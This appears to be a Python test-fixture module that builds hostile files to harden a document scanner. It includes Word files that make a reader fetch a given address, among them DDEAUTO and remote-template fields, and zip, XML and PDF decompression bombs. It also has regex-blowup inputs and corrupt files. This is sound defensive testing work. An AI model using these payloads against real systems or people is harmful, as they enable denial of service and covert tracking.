"""Ninety files from a hostile hand, made here: what other people's files may do to scan, diff, measure, import and cite."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="svg" ContentType="image/svg+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    '.wordprocessingml.document.main+xml"/></Types>'
)
_ROOT = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'
)


def packed(parts: dict[str, str | bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def word(body: str, relations: str = "", more: dict[str, str | bytes] | None = None) -> bytes:
    """A Word file with *body*, the *relations* of its document and *more* parts."""
    document = (
        f'<?xml version="1.0"?><w:document xmlns:w="{W}" xmlns:r="{_R}" xmlns:v="urn:schemas-microsoft-com:vml"'
        ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:o="urn:schemas-microsoft-com:office:office"'
        ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
        ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f"<w:body>{body}</w:body></w:document>"
    )
    listed = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{relations}</Relationships>"
    )
    parts: dict[str, str | bytes] = {"[Content_Types].xml": _TYPES, "_rels/.rels": _ROOT}
    parts |= {"word/document.xml": document, "word/_rels/document.xml.rels": listed}
    return packed(parts | (more or {}))


def pdf(*objects: bytes) -> bytes:
    """A PDF of *objects*, each the inside of one; the first is the catalogue."""
    data, places = b"%PDF-1.4\n", []
    for number, inside in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, inside)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(data))


def stream(content: bytes, levels: int = 1, extra: bytes = b"") -> bytes:
    for _ in range(levels):
        content = zlib.compress(content, 9)
    names = b"/FlateDecode " * levels
    return b"<</Length %d/Filter[%s]%s>>stream\n%s\nendstream" % (len(content), names, extra, content)


def page(content: bytes, *more: bytes) -> bytes:
    """A PDF of one page that draws *content*, which is the inside of its stream."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        content,
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    )


_P = "<w:p><w:r><w:t>段</w:t></w:r></w:p>"
_LINK = '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="990000" cy="792000"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:%s="rId9"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="990000" cy="792000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'


def _field(instruction: str, pieces: int = 1) -> str:
    size = -(-len(instruction) // pieces)
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{instruction[at : at + size]}</w:instrText></w:r>'
        for at in range(0, len(instruction), size)
    )
    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    return f"<w:p>{mark % 'begin'}{runs}{mark % 'separate'}<w:r><w:t>x</w:t></w:r>{mark % 'end'}</w:p>"


def _relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="rId9" Type="{_R}/{kind}" Target="{target}"{mode}/>'


def calling(address: str) -> Iterator[tuple[str, bytes]]:
    """(name, bytes) of Word files that make the program which opens them ask for *address*."""
    yield "picture.docx", word(_LINK % "link", _relation("image", f"{address}/a.png"))
    yield "embedded.docx", word(_LINK % "embed", _relation("image", f"{address}/b.png"))
    yield "unsaid.docx", word(_LINK % "link", _relation("image", f"{address}/c.png", ""))
    yield "field.docx", word(_field(f' INCLUDEPICTURE "{address}/d.png" \\d ') + _P)
    yield "cut.docx", word(_field(f' INCLUDEPICTURE "{address}/e.png" \\d ', 6) + _P)
    yield "text.docx", word(_field(f' INCLUDETEXT "{address}/f.docx" ') + _P)
    yield "link.docx", word(_field(f' LINK Word.Document.8 "{address}/g.doc" "" \\a ') + _P)
    yield "dde.docx", word(_field(f' DDEAUTO c:\\\\a "{address}/h" ') + _P)
    yield "simple.docx", word(f"<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"{address}/i.png\"'/></w:p>")
    yield (
        "template.docx",
        word(
            _P,
            f'<Relationship Id="rId3" Type="{_R}/settings" Target="settings.xml"/>',
            {
                "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{_R}"><w:attachedTemplate r:id="rId9"/></w:settings>',
                "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships">{_relation("attachedTemplate", f"{address}/j.dotx")}</Relationships>',
            },
        ),
    )
    yield "frame.docx", word(_P, _relation("frame", f"{address}/k.htm"))
    yield (
        "object.docx",
        word(
            f'<w:p><w:r><w:object><v:shape style="width:9pt;height:9pt"><v:imagedata src="{address}/l.png" '
            f'o:href="{address}/m.png"/></v:shape></w:object></w:r></w:p>'
        ),
    )
    yield (
        "vml.docx",
        word(
            f'<w:p><w:r><w:pict><v:rect style="width:99pt;height:99pt"><v:fill type="frame" src="{address}/n.png" '
            f'o:href="{address}/o.png"/><v:imagedata src="{address}/p.png"/></v:rect></w:pict></w:r></w:p>'
        ),
    )
    yield (
        "chunk.docx",
        word(
            '<w:altChunk r:id="rId9"/>' + _P,
            _relation("aFChunk", "a.htm", ""),
            {"word/a.htm": f'<html><img src="{address}/q.png"></html>'},
        ),
    )
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{address}/r.png" width="9" height="9"/></svg>'
    yield "svg.docx", word(_LINK % "embed", _relation("image", "media/a.svg", ""), {"word/media/a.svg": svg})
    yield "page.docx", f'<html><img src="{address}/s.png"></html>'.encode()
    yield "rtf.docx", ('{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "%s/t.png"}}}' % address).encode()  # noqa: UP031
    odt = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p><draw:frame>'
        f'<draw:image xlink:href="{address}/u.png"/></draw:frame></text:p></office:text></office:body>'
        "</office:document-content>"
    )
    yield "odt.docx", packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": odt})
    both: dict[str, str | bytes] = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": odt}
    with zipfile.ZipFile(io.BytesIO(word(_P))) as own:
        both |= {name: own.read(name) for name in own.namelist()}
    yield "both.docx", packed(both)


_SIGNS: tuple[tuple[str, str], ...] = (
    ("lt.html", "<"),
    ("comment.html", "<!--"),
    ("script.html", "<script>"),
    ("style.html", "<style "),
    ("hr.html", "<hr "),
    ("end.html", "</p"),
    ("quote.html", '<a b="'),
    ("equal.html", "<a ='"),
    ("entity.html", "&#38;"),
    ("deep.html", "<p>"),
    ("mail.txt", "aaa@"),
    ("dots.txt", "a.a"),
    ("letters.txt", "a"),
    ("digits.txt", "1"),
    ("commas.txt", "1,"),
    ("street.txt", "路1号"),
    ("door.txt", "1号院"),
    ("village.txt", "村一组1号"),
    ("gb.txt", "GB/"),
    ("gb1.txt", "GB1."),
    ("hex.txt", "ab"),
    ("percent.txt", "%41"),
    ("quoted.txt", "=41"),
    ("escape.txt", "\\u4e00"),
    ("chat.txt", "wxid_"),
    ("plate.txt", "京A"),
    ("phones.txt", "13912345678 "),
    ("year.txt", "2024年1月"),
    ("brackets.txt", "（2024）京"),
    ("property.txt", "房权证字第"),
    ("marks.txt", "，。"),
    ("name.txt", "《安全"),
    ("quotes.txt", "“"),
    ("blank.txt", " "),
    ("lines.txt", "\n"),
    ("zero.txt", "\u200b"),
)


def growing(size: int = 1_000_000) -> Iterator[tuple[str, bytes]]:
    """(name, bytes) of texts of *size* bytes in which one sign repeats: what makes a careless pattern quadratic."""
    for name, sign in _SIGNS:
        yield name, (sign * (size // len(sign.encode()))).encode() + (b"!" if name.endswith("txt") else b"")


def bombs() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """(name, what makes the bytes) of small files that unpack to very much, or never come to an end."""
    zeros = b"0" * 30_000_000
    yield "zeros.zip", lambda: packed({f"{number}.txt": zeros for number in range(8)})
    inner = packed({"a.txt": zeros})
    yield "nested.zip", lambda: packed({f"{number}.zip": inner for number in range(40)})
    deep = inner
    for _ in range(6):
        deep = packed({"a.zip": deep})
    yield "deep.zip", lambda: deep
    yield "many.zip", lambda: packed({f"{number}.txt": b"" for number in range(25_000)})
    yield "big.docx", lambda: word("<w:p/>" * 6_000_000)
    yield "text.docx", lambda: word(f"<w:p><w:r><w:t>{'段' * 9_000_000}</w:t></w:r></w:p>")
    yield "tables.docx", lambda: word("<w:tbl><w:tr><w:tc>" * 100 + _P + "</w:tc></w:tr></w:tbl>" * 100)
    yield "sdt.docx", lambda: word("<w:sdt><w:sdtContent>" * 110 + _P + "</w:sdtContent></w:sdt>" * 110)
    yield "paragraphs.docx", lambda: word(_P * 200_000)
    yield "cells.docx", lambda: word("<w:tbl><w:tr>" + f"<w:tc>{_P}</w:tc>" * 60_000 + "</w:tr></w:tbl>" + _P)
    yield "attributes.docx", lambda: word("<w:p " + " ".join(f'w:a{n}="1"' for n in range(300_000)) + "/>")
    lol = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    yield (
        "lol.docx",
        lambda: word(
            "", "", {"word/document.xml": f'{lol}]><w:document xmlns:w="{W}"><w:body>&j;</w:body></w:document>'}
        ),
    )
    yield "lol.html", lambda: f"{lol}]><html><p>&j;</p></html>".encode()
    yield "fields.docx", lambda: word('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 30_000)
    yield "flate.pdf", lambda: page(stream(b" " * 400_000_000))
    yield "flate2.pdf", lambda: page(stream(b" " * 400_000_000, 2))
    yield "operators.pdf", lambda: page(stream(b"q Q " * 3_000_000))
    yield "shows.pdf", lambda: page(stream(b"BT /F 9 Tf " + b"(a) Tj " * 1_500_000 + b"ET"))
    yield "saves.pdf", lambda: page(stream(b"q " * 2_000_000))
    yield "pages.pdf", lambda: pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[" + b"3 0 R " * 20_000 + b"]/Count 20000>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )  # fmt: skip
    yield "circle.pdf", lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield (
        "array.pdf",
        lambda: pdf(b"<</Type/Catalog/Pages 2 0 R/A " + b"[" * 400 + b"]" * 400 + b">>", b"<</Kids[]/Count 0>>"),
    )
    yield "attached.pdf", lambda: page(stream(b"x"), stream(zeros, 1, b"/Type/EmbeddedFile"), *[stream(zeros)] * 6)
    yield "older.pdf", lambda: page(stream(b"x")) + b"%%EOF\n" + (b"stream\n" * 100_000) + b"%%EOF"
    yield "range.pdf", lambda: pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        stream(b"BT /F 9 Tf (a) Tj ET"), b"<</Type/Font/Subtype/Type0/ToUnicode 6 0 R>>",
        stream(b"".join(b"1 beginbfrange\n<0000> <ffff> <%06x>\nendbfrange\n" % n for n in range(3000))),
    )  # fmt: skip
    rows = '<row><c t="inlineStr"><is><t>a</t></is></c></row>' * 400_000
    yield "rows.xlsx", lambda: packed({
        "[Content_Types].xml": _TYPES.replace("word/document", "xl/workbook").replace("wordprocessingml.document", "spreadsheetml.sheet"),
        "_rels/.rels": _ROOT.replace("word/document", "xl/workbook"),
        "xl/workbook.xml": f'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{_R}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _ROOT.replace("officeDocument\"", "worksheet\"").replace("word/document.xml", "worksheets/a.xml"),
        "xl/worksheets/a.xml": f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>',
    })  # fmt: skip


def spoiled() -> Iterator[tuple[str, bytes]]:
    """(name, bytes) of files that are not what they say."""
    whole = word(_P)
    yield "half.docx", whole[: len(whole) // 2]
    yield "tail.docx", whole + b"\x00" * 500_000
    yield "head.docx", b"PK\x03\x04" + b"\xff" * 300_000
    yield "ole.docx", b"\xd0\xcf\x11\xe0" + b"\x00" * 300_000
    yield "empty.docx", b""
    yield "empty.pdf", b"%PDF-1.7\n"
    yield "loop.pdf", b"%PDF-1.4\ntrailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF"
    yield "binary.txt", bytes(range(256)) * 2000
    yield "wide.txt", ("\ufeff" + "甲" * 200_000).encode("utf-16-le")


def all_files(address: str) -> dict[str, Callable[[], bytes]]:
    """Name → how the file is made, of all of them; made one by one, since together they are large."""
    found: dict[str, Callable[[], bytes]] = {}
    for group in (calling(address), growing(), spoiled()):
        for name, data in group:
            found[f"{len(found):02d}-{name}"] = lambda data=data: data
    for name, make in bombs():
        found[f"{len(found):02d}-{name}"] = make
    return found
